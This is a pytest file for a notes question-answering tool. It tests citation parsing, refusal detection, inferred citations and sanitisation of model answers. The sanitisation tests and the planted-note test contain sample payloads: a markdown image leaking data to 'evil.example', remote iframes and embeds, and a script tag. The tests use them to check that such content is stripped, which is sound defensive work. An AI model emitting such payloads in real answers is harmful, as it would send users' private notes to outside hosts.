"""The program's checks on an answer: pure functions, no model."""

from __future__ import annotations

from dataclasses import replace

import pytest

from commonplace.ask.citations import (
    NOT_SUPPORTED,
    check_answer,
    cited_numbers,
    is_refusal,
    sanitize,
    shorten,
)
from commonplace.ask.models import REFUSAL, Passage


def passages(count: int) -> list[Passage]:
    return [
        Passage(n=i, path=f"Notes/N{i}.md", title=f"N{i}", heading="H", text=f"Fact number {i}.")
        for i in range(1, count + 1)
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Plain [1].", [1]),
        ("Two [2][1] and again [2].", [2, 1]),
        ("List [1, 3] and [4; 5].", [1, 3, 4, 5]),
        ("Range [2-4].", [2, 3, 4]),
        ("Footnote style [^3].", [3]),
        ("A [[Wiki Link]] and [[12]] are not citations.", []),
        ("No citations here.", []),
    ],
)
def test_cited_numbers(text: str, expected: list[int]) -> None:
    assert cited_numbers(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        REFUSAL,
        "I can't find that in your notes",
        "I can’t find that in your notes.",
        "Sorry, I can't find that in your notes.",
        "I'm sorry, but I cannot find that in your notes!",
        "**I can't find that in your notes.**",
        "I can't find that in your notes. The closest is the trip [2].",
        "  i couldn't find that in your notes.",
    ],
)
def test_refusal_and_variations_are_recognised(text: str) -> None:
    assert is_refusal(text)
    answer = check_answer("q?", text, passages(3))
    assert answer.refused
    assert answer.answer == REFUSAL
    assert answer.sources == ()


@pytest.mark.parametrize(
    "text",
    [
        "Your passport expires on 9 February 2027 [1].",
        "I can find that in your notes: it is Thursday [1].",
        "The notes say I can't find the keys in the car [2].",
    ],
)
def test_answers_are_not_refusals(text: str) -> None:
    assert not is_refusal(text)


def test_well_cited_answer_gets_its_sources_in_citation_order() -> None:
    answer = check_answer("q?", "A is true [2]. B is true [1][2].", passages(3))
    assert not answer.refused
    assert [s.n for s in answer.sources] == [2, 1]
    assert answer.sources[0].path == "Notes/N2.md"
    assert answer.sources[0].text == "Fact number 2."
    assert answer.findings == ()


def test_citation_of_a_missing_passage_is_flagged() -> None:
    answer = check_answer("q?", "It is on Thursday [7]. Also [2].", passages(5))
    assert [s.n for s in answer.sources] == [2]
    assert answer.findings == ("[7] matches no passage: only [1]–[5] were given.",)


def test_uncited_answer_without_facts_or_shared_words_is_flagged() -> None:
    answer = check_answer("q?", "Ask someone who knows.", passages(2))
    assert answer.sources == ()
    assert len(answer.findings) == 1
    assert "cites no passage" in answer.findings[0]


def test_uncited_factual_answer_is_cited_by_the_program() -> None:
    answer = check_answer("q?", "It is fact number 2, you see.", passages(3))
    assert answer.answer == "It is fact number 2, you see [2]."
    assert [s.n for s in answer.sources] == [2]
    assert answer.added == (2,)
    assert answer.findings == ()


def test_uncited_answer_of_facts_in_no_passage_is_replaced_by_the_refusal() -> None:
    answer = check_answer("q?", "Your flight leaves at 06:40 on Thursday.", passages(2))
    assert answer.refused and answer.replaced
    assert answer.answer == REFUSAL
    assert answer.sources == ()
    assert answer.findings[0].startswith(NOT_SUPPORTED + ": it said 06:40")


def test_think_draft_is_removed_and_reported() -> None:
    raw = "The user wants the date. Maybe [9]?</think>It is on 3 December [1]."
    dated = [replace(p, text=f"{p.text} On 3 December.") for p in passages(2)]
    answer = check_answer("q?", raw, dated)
    assert answer.answer == "It is on 3 December [1]."
    assert "draft" in answer.findings[0]
    assert [s.n for s in answer.sources] == [1]


@pytest.mark.parametrize(
    ("raw", "gone"),
    [
        ("See ![x](https://evil.example/leak?q=passport) here [1].", "evil.example"),
        ("See ![](http://evil.example/a.png 'title') here [1].", "evil.example"),
        ("Ref ![logo][r] here [1].\n\n[r]: https://evil.example/r.png", "![logo]"),
        ('<img src="https://evil.example/x.png"> here [1].', "<img"),
        ("<iframe src=https://evil.example></iframe> here [1].", "iframe"),
        ("{{video https://evil.example/v}} here [1].", "evil.example/v"),
        ("<script>fetch('x')</script> here [1].", "<script"),
    ],
)
def test_remote_images_embeds_and_html_are_removed(raw: str, gone: str) -> None:
    answer = check_answer("q?", raw, passages(2))
    assert gone not in answer.answer
    assert "![" not in answer.answer.replace("!\\[", "")
    assert "here [1]." in answer.answer
    assert any("Removed" in f for f in answer.findings)


def test_note_embed_becomes_a_plain_link() -> None:
    text, removed = sanitize("See ![[Passport]] [1].")
    assert text == "See [[Passport]] [1]."
    assert removed == 1


def test_loose_markup_is_escaped_and_code_fences_lose_their_language() -> None:
    text, _ = sanitize("x < 5 and <b\n```dataviewjs\ndv.x()\n```")
    assert "x < 5" in text
    assert "\\<b" in text
    assert "```dataviewjs" not in text
    assert text.splitlines()[1] == "```"


def test_source_text_from_a_note_is_sanitized_too() -> None:
    planted = Passage(1, "Clip.md", "Clip", "", "Nice ![](https://evil.example/p.png) recipe.")
    answer = check_answer("q?", "A recipe [1].", [planted])
    assert "evil.example" not in answer.sources[0].text


def test_shorten_cuts_at_a_word() -> None:
    assert shorten("one two three four", 100) == "one two three four"
    short = shorten("alpha beta gamma delta epsilon " * 10, 40)
    assert len(short) <= 40
    assert short.endswith("…")
    assert "\n" not in shorten("a\nb", 10)


def test_empty_answer_is_reported() -> None:
    answer = check_answer("q?", "<think>still thinking", passages(1))
    assert answer.answer == ""
    assert not answer.refused
    assert answer.findings == ("The model gave no answer.",)


def test_json_shape() -> None:
    data = check_answer("q?", "Yes [1].", passages(1)).to_json()
    assert {"answer", "refused", "sources", "findings"} <= data.keys()
    assert set(data["sources"][0]) >= {"n", "path", "title", "heading", "text"}


def test_a_logseq_source_is_quoted_without_its_block_markers() -> None:
    """Logseq draws `#+BEGIN_EXAMPLE` ... `#+END_EXAMPLE` as a box, not as words (the Logseq
    docs' Queries page holds dozens); the one-line source under an answer left them in, as
    search snippets once did. Code keeps what it shows."""
    text = (
        "- **priority** Examples:\n"
        "  #+BEGIN_EXAMPLE\n"
        "  (priority a b c)\n"
        "  #+END_EXAMPLE\n"
        "- #+BEGIN_QUOTE\n"
        "  Tasks are blocks.\n"
        "  #+END_QUOTE\n"
        "- `#+BEGIN_NOTE` starts a note box\n"
    )
    passage = Passage(1, "pages/Queries.md", "Queries", "Query Filters", text)
    [source] = check_answer("q?", "By priority [1].", [passage]).sources
    assert source.text == (
        "- **priority** Examples: (priority a b c) Tasks are blocks. "
        "- `#+BEGIN_NOTE` starts a note box"
    )
